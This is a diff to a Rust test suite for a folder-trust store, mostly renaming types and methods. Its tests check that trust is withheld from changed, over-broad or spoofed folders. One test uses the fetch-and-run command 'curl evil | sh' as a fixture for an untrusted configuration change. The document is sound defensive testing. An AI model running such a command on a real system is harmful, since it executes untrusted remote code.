@@ -37,11 +37,11 @@ impl Machine {
         std::fs::canonicalize(self.dir.path()).unwrap().join(name)
     }
 
-    fn assess(&self, name: &str, command: &str) -> Assessment {
+    fn assess(&self, name: &str, command: &str) -> TrustAssessment {
         self.store().assess(&self.path(name), |_| hook(command)).unwrap()
     }
 
-    fn decide(&self, name: &str, command: &str, decision: Decision) -> Result<(), TrustError> {
+    fn decide(&self, name: &str, command: &str, decision: TrustDecision) -> Result<(), TrustError> {
         self.store().decide(&self.assess(name, command), decision, false)
     }
 
@@ -54,7 +54,7 @@ impl Machine {
 fn a_folder_is_undecided_until_a_person_decides_and_the_decision_survives_a_restart() {
     let machine = Machine::new();
     assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
-    machine.decide("home/project", "make", Decision::Trust).unwrap();
+    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
     assert_eq!(machine.state("home/project", "make"), TrustState::Trusted(TrustedBy::Person));
     let applied = FolderConfiguration::Applied { fingerprint: "make".to_owned() };
     assert_eq!(machine.assess("home/project", "make").folder_configuration(), applied);
@@ -63,12 +63,12 @@ fn a_folder_is_undecided_until_a_person_decides_and_the_decision_survives_a_rest
 #[test]
 fn a_changed_configuration_is_not_trusted_and_the_difference_is_known() {
     let machine = Machine::new();
-    machine.decide("home/project", "make", Decision::Trust).unwrap();
+    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
     let changed = machine.assess("home/project", "curl evil | sh");
     let TrustState::Changed(difference) = &changed.state else { panic!("{:?}", changed.state) };
     assert_eq!(difference.changed.len(), 1);
     assert_eq!(changed.folder_configuration(), FolderConfiguration::Ignored);
-    machine.decide("home/project", "curl evil | sh", Decision::Trust).unwrap();
+    machine.decide("home/project", "curl evil | sh", TrustDecision::Trust).unwrap();
     assert_eq!(machine.state("home/project", "curl evil | sh"), TrustState::Trusted(TrustedBy::Person));
     assert!(
         matches!(machine.state("home/project", "make"), TrustState::Changed(_)),
@@ -79,7 +79,7 @@ fn a_changed_configuration_is_not_trusted_and_the_difference_is_known() {
 #[test]
 fn a_restricted_folder_stays_restricted_when_its_configuration_changes() {
     let machine = Machine::new();
-    machine.decide("home/project", "make", Decision::Restrict).unwrap();
+    machine.decide("home/project", "make", TrustDecision::Restrict).unwrap();
     assert_eq!(machine.state("home/project", "make"), TrustState::Restricted);
     assert_eq!(machine.state("home/project", "other"), TrustState::Restricted);
 }
@@ -87,13 +87,13 @@ fn a_restricted_folder_stays_restricted_when_its_configuration_changes() {
 #[test]
 fn subfolders_inherit_only_if_the_person_says_so_and_a_later_change_is_noticed() {
     let machine = Machine::new();
-    machine.decide("home/project", "make", Decision::Trust).unwrap();
+    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
     assert_eq!(machine.state("home/project/sub", "make"), TrustState::Undecided);
-    machine.decide("home/project", "make", Decision::TrustSubfolders).unwrap();
+    machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
     let parent = TrustedBy::Parent(machine.path("home/project"));
     let inherited = machine.assess("home/project/sub", "ls");
     assert_eq!(inherited.state, TrustState::Trusted(parent.clone()));
-    machine.store().note_inherited(&inherited).unwrap();
+    machine.store().record_inherited(&inherited).unwrap();
     assert_eq!(machine.state("home/project/sub", "ls"), TrustState::Trusted(parent));
     assert!(matches!(machine.state("home/project/sub", "rm"), TrustState::Changed(_)));
     assert!(machine.store().remove(&machine.path("home/project")).unwrap());
@@ -104,7 +104,7 @@ fn subfolders_inherit_only_if_the_person_says_so_and_a_later_change_is_noticed()
 fn a_name_that_only_begins_like_a_trusted_folder_inherits_nothing() {
     let machine = Machine::new();
     std::fs::create_dir_all(machine.path("home/project-evil")).unwrap();
-    machine.decide("home/project", "make", Decision::TrustSubfolders).unwrap();
+    machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
     assert_eq!(machine.state("home/project-evil", "make"), TrustState::Undecided);
 }
 
@@ -112,15 +112,15 @@ fn a_name_that_only_begins_like_a_trusted_folder_inherits_nothing() {
 fn home_and_root_are_trusted_by_name_only_and_never_with_their_subfolders() {
     let machine = Machine::new();
     assert!(matches!(machine.state("home", "make"), TrustState::Refused(_)), "no one is asked about it");
-    assert!(matches!(machine.decide("home", "make", Decision::Trust), Err(TrustError::TooBroad { .. })));
+    assert!(matches!(machine.decide("home", "make", TrustDecision::Trust), Err(TrustError::TooBroad { .. })));
     let assessment = machine.assess("home", "make");
-    let all = machine.store().decide(&assessment, Decision::TrustSubfolders, true);
+    let all = machine.store().decide(&assessment, TrustDecision::TrustSubfolders, true);
     assert!(matches!(all, Err(TrustError::TooBroadWithSubfolders { .. })));
-    machine.store().decide(&assessment, Decision::Trust, true).unwrap();
+    machine.store().decide(&assessment, TrustDecision::Trust, true).unwrap();
     assert_eq!(machine.state("home", "make"), TrustState::Trusted(TrustedBy::Person));
     assert_eq!(machine.state("home/project", "make"), TrustState::Undecided);
     let root = machine.store().assess(Path::new("/"), |_| hook("make")).unwrap();
-    assert!(matches!(machine.store().decide(&root, Decision::Trust, false), Err(TrustError::TooBroad { .. })));
+    assert!(matches!(machine.store().decide(&root, TrustDecision::Trust, false), Err(TrustError::TooBroad { .. })));
 }
 
 #[test]
@@ -137,7 +137,7 @@ fn the_host_s_configuration_trusts_folders_below_those_it_names_but_not_below_ho
 #[test]
 fn a_link_to_a_trusted_folder_is_that_folder_and_one_that_is_swapped_is_not() {
     let machine = Machine::new();
-    machine.decide("home/project", "make", Decision::Trust).unwrap();
+    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
     let link = machine.path("link");
     std::os::unix::fs::symlink(machine.path("home/project"), &link).unwrap();
     assert_eq!(machine.state("link", "make"), TrustState::Trusted(TrustedBy::Person));
@@ -149,14 +149,14 @@ fn a_link_to_a_trusted_folder_is_that_folder_and_one_that_is_swapped_is_not() {
 #[test]
 fn a_file_that_cannot_be_read_trusts_nothing_and_is_not_overwritten() {
     let machine = Machine::new();
-    machine.decide("home/project", "make", Decision::Trust).unwrap();
+    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
     let store = machine.store();
-    let file = machine.path("state").join(FILE);
+    let file = machine.path("state").join(TRUST_FILE_NAME);
     std::fs::write(&file, "folder = nonsense").unwrap();
     let assessment = store.assess(&machine.path("home/project"), |_| hook("make")).unwrap();
     assert!(matches!(assessment.state, TrustState::Refused(_)), "{:?}", assessment.state);
     assert!(matches!(machine.state("home/project", "make"), TrustState::Refused(_)), "after a restart too");
-    assert!(matches!(store.decide(&assessment, Decision::Trust, true), Err(TrustError::File(_))));
+    assert!(matches!(store.decide(&assessment, TrustDecision::Trust, true), Err(TrustError::File(_))));
     assert_eq!(std::fs::read_to_string(&file).unwrap(), "folder = nonsense");
 }
 
@@ -166,8 +166,8 @@ fn a_configuration_that_cannot_be_applied_cannot_be_trusted() {
     let broken = WorkspaceConfiguration { problem: Some("settings.json is not JSON".to_owned()), ..hook("make") };
     let assessment = machine.store().assess(&machine.path("home/project"), |_| broken).unwrap();
     assert!(matches!(assessment.state, TrustState::Refused(_)));
-    let decided = machine.store().decide(&assessment, Decision::Trust, true);
-    assert!(matches!(decided, Err(TrustError::Problem { .. })));
+    let decided = machine.store().decide(&assessment, TrustDecision::Trust, true);
+    assert!(matches!(decided, Err(TrustError::InvalidConfiguration { .. })));
 }
 
 #[test]
@@ -181,17 +181,18 @@ fn a_folder_without_configuration_needs_no_decision() {
 
 #[test]
 fn restricting_a_parent_revokes_what_its_subfolders_inherited() {
-    for decision in [Decision::Restrict, Decision::Trust] {
+    for decision in [TrustDecision::Restrict, TrustDecision::Trust] {
         let machine = Machine::new();
-        machine.decide("home/project", "make", Decision::TrustSubfolders).unwrap();
-        machine.store().note_inherited(&machine.assess("home/project/sub", "ls")).unwrap();
-        let before = std::fs::read_to_string(machine.path("state").join(FILE)).unwrap();
+        machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
+        machine.store().record_inherited(&machine.assess("home/project/sub", "ls")).unwrap();
+        let before = std::fs::read_to_string(machine.path("state").join(TRUST_FILE_NAME)).unwrap();
         machine.decide("home/project", "make", decision).unwrap();
         let state = machine.state("home/project/sub", "ls");
         assert!(matches!(state, TrustState::Restricted | TrustState::Undecided), "{decision:?}: {state:?}");
         assert_eq!(machine.store().entries().unwrap().len(), 1, "nothing is listed as inherited");
         // A file in which what was inherited is left.
-        std::fs::write(machine.path("state").join(FILE), before.replace("trustSubfolders", "trust")).unwrap();
+        std::fs::write(machine.path("state").join(TRUST_FILE_NAME), before.replace("trustSubfolders", "trust"))
+            .unwrap();
         assert_eq!(machine.state("home/project/sub", "ls"), TrustState::Undecided);
     }
 }
@@ -200,15 +201,15 @@ fn restricting_a_parent_revokes_what_its_subfolders_inherited() {
 fn the_nearest_parent_decides_and_a_restriction_holds_for_subfolders() {
     let mut machine = Machine::new();
     std::fs::create_dir_all(machine.path("home/project/sub/deep")).unwrap();
-    machine.decide("home/project", "make", Decision::TrustSubfolders).unwrap();
-    machine.store().note_inherited(&machine.assess("home/project/sub/deep", "ls")).unwrap();
-    machine.decide("home/project/sub", "make", Decision::Restrict).unwrap();
+    machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
+    machine.store().record_inherited(&machine.assess("home/project/sub/deep", "ls")).unwrap();
+    machine.decide("home/project/sub", "make", TrustDecision::Restrict).unwrap();
     assert_eq!(machine.state("home/project/sub/deep", "ls"), TrustState::Restricted);
     machine.trusted_folders = vec![machine.path("home/project")];
     assert_eq!(machine.state("home/project/sub/deep", "other"), TrustState::Restricted);
     machine.trusted_folders = vec![machine.path("home/project/sub")];
     assert_eq!(machine.state("home/project/sub/deep", "other"), TrustState::Restricted);
-    machine.decide("home/project/sub/deep", "ls", Decision::Trust).unwrap();
+    machine.decide("home/project/sub/deep", "ls", TrustDecision::Trust).unwrap();
     assert_eq!(machine.state("home/project/sub/deep", "ls"), TrustState::Trusted(TrustedBy::Person));
 }
 
@@ -216,10 +217,10 @@ fn the_nearest_parent_decides_and_a_restriction_holds_for_subfolders() {
 fn removing_the_trust_of_a_subfolder_trusts_nothing_new() {
     for noted in [true, false] {
         let machine = Machine::new();
-        machine.decide("home/project", "make", Decision::TrustSubfolders).unwrap();
+        machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
         match noted {
-            true => machine.store().note_inherited(&machine.assess("home/project/sub", "ls")).unwrap(),
-            false => machine.decide("home/project/sub", "ls", Decision::Trust).unwrap(),
+            true => machine.store().record_inherited(&machine.assess("home/project/sub", "ls")).unwrap(),
+            false => machine.decide("home/project/sub", "ls", TrustDecision::Trust).unwrap(),
         }
         assert!(matches!(machine.state("home/project/sub", "rm"), TrustState::Changed(_)));
         let sub = machine.path("home/project/sub");
@@ -238,7 +239,7 @@ fn what_holds_the_home_folder_is_as_broad_as_it() {
     let mut machine = Machine::new();
     let above = machine.assess("", "make");
     assert!(matches!(above.state, TrustState::Refused(_)), "{:?}", above.state);
-    let all = machine.store().decide(&above, Decision::TrustSubfolders, true);
+    let all = machine.store().decide(&above, TrustDecision::TrustSubfolders, true);
     assert!(matches!(all, Err(TrustError::TooBroadWithSubfolders { .. })));
     machine.trusted_folders = vec![machine.path("")];
     assert!(matches!(machine.state("home", "make"), TrustState::Refused(_)));
@@ -246,8 +247,8 @@ fn what_holds_the_home_folder_is_as_broad_as_it() {
     assert_eq!(machine.state("", "make"), TrustState::Trusted(TrustedBy::HostConfiguration), "it is named");
     machine.trusted_folders.clear();
     // Decided before, or written by hand.
-    machine.store().decide(&above, Decision::Trust, true).unwrap();
-    let file = machine.path("state").join(FILE);
+    machine.store().decide(&above, TrustDecision::Trust, true).unwrap();
+    let file = machine.path("state").join(TRUST_FILE_NAME);
     let text = std::fs::read_to_string(&file).unwrap().replace("\"trust\"", "\"trustSubfolders\"");
     assert!(text.contains("trustSubfolders"), "{text}");
     std::fs::write(&file, text).unwrap();
@@ -258,21 +259,21 @@ fn what_holds_the_home_folder_is_as_broad_as_it() {
 #[test]
 fn what_was_decided_since_an_assessment_is_not_overwritten() {
     let machine = Machine::new();
-    machine.decide("home/project", "make", Decision::TrustSubfolders).unwrap();
+    machine.decide("home/project", "make", TrustDecision::TrustSubfolders).unwrap();
     let assessed = machine.assess("home/project/sub", "ls");
-    machine.decide("home/project/sub", "ls", Decision::Restrict).unwrap();
-    assert!(matches!(machine.store().note_inherited(&assessed), Err(TrustError::Changed { .. })));
+    machine.decide("home/project/sub", "ls", TrustDecision::Restrict).unwrap();
+    assert!(matches!(machine.store().record_inherited(&assessed), Err(TrustError::Changed { .. })));
     assert_eq!(machine.state("home/project/sub", "ls"), TrustState::Restricted);
-    machine.decide("home/project/sub", "ls", Decision::Trust).unwrap();
+    machine.decide("home/project/sub", "ls", TrustDecision::Trust).unwrap();
     let parent = machine.assess("home/project", "make");
-    machine.store().note_inherited(&parent).unwrap();
+    machine.store().record_inherited(&parent).unwrap();
     assert_eq!(machine.state("home/project", "make"), TrustState::Trusted(TrustedBy::Person));
 }
 
 #[test]
 fn a_decision_that_does_not_fit_is_refused_and_the_others_stay() {
     let machine = Machine::new();
-    machine.decide("home/project", "make", Decision::Trust).unwrap();
+    machine.decide("home/project", "make", TrustDecision::Trust).unwrap();
     let huge = || {
         let mut configuration = hook("make");
         configuration.items[0].name = "x".repeat(5 * 1024 * 1024);
@@ -280,9 +281,9 @@ fn a_decision_that_does_not_fit_is_refused_and_the_others_stay() {
     };
     let store = machine.store();
     let assessment = store.assess(&machine.path("home/project/sub"), |_| huge()).unwrap();
-    let refused = store.decide(&assessment, Decision::Trust, false).unwrap_err().to_string();
+    let refused = store.decide(&assessment, TrustDecision::Trust, false).unwrap_err().to_string();
     assert!(refused.contains("larger than 4 MiB"), "{refused}");
     assert_eq!(machine.state("home/project", "make"), TrustState::Trusted(TrustedBy::Person));
-    store.decide(&assessment, Decision::Restrict, false).unwrap();
+    store.decide(&assessment, TrustDecision::Restrict, false).unwrap();
     assert_eq!(machine.state("home/project/sub", "make"), TrustState::Restricted);
 }
